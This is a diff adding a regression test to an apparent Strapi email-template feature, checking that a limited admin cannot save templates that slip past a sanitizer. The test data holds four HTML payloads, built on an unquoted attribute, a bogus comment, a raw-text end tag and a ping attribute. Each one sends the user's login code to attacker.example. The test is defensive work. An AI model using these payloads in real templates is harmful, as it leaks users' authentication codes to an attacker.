@@ -216,6 +216,26 @@ describe('templates', () => {
     expect((await call('get', '/templates', readOnly)).body.saved.default).toEqual({ subject: 'Kept' });
   });
 
+  // Issue 18: templates that fooled the hand-written scanner, saved by an admin whose role
+  // has only email-templates update (a copywriter, not a super admin).
+  it.each([
+    ['a quote inside an unquoted attribute', `<p>Your code: <%= CODE %></p><img alt=x' src="https://attacker.example/p.gif?a='><%= CODE %>">`],
+    ['a bogus comment', `<p><%= CODE %></p><?x "><img src='https://attacker.example/p.gif?c=" > <%= CODE %>'>`],
+    ['a raw-text end tag', `<p><%= CODE %></p><style>p{background:url("https://attacker.example/c.gif?</styles><%= CODE %>")}</style>`],
+    ['ping glued to the href', `<p><%= CODE %></p><a href="<%= URL %>"ping="https://attacker.example/ping">Sign in</a>`],
+  ])('a copywriter cannot save %s: 400 INVALID_TEMPLATE, and the next email goes nowhere else', async (_name, html) => {
+    const copywriter = await createAdmin(app.strapi, [A.templatesRead, A.templatesUpdate]);
+    const res = await call('put', '/templates', copywriter, { default: { html }, locales: {} });
+    expectError(res, 400, 'INVALID_TEMPLATE');
+    expect(res.body.error.details.errors.map((problem: { path: string }) => problem.path)).toEqual(['default.html']);
+    const user = await createUser(app.strapi);
+    await ask(app, user.email);
+    await app.settle();
+    const sent = app.ses.to(user.email);
+    expect(sent).toHaveLength(1);
+    expect(sent[0].html).not.toContain('attacker.example');
+  });
+
   it('<%= URL %> is refused while no linkUrl is configured (checked like config) — here one is, so it is accepted', async () => {
     const res = await call('put', '/templates', superAdmin, { default: { text: '<%= CODE %> <%= URL %>' }, locales: {} });
     expect(res.status).toBe(200);
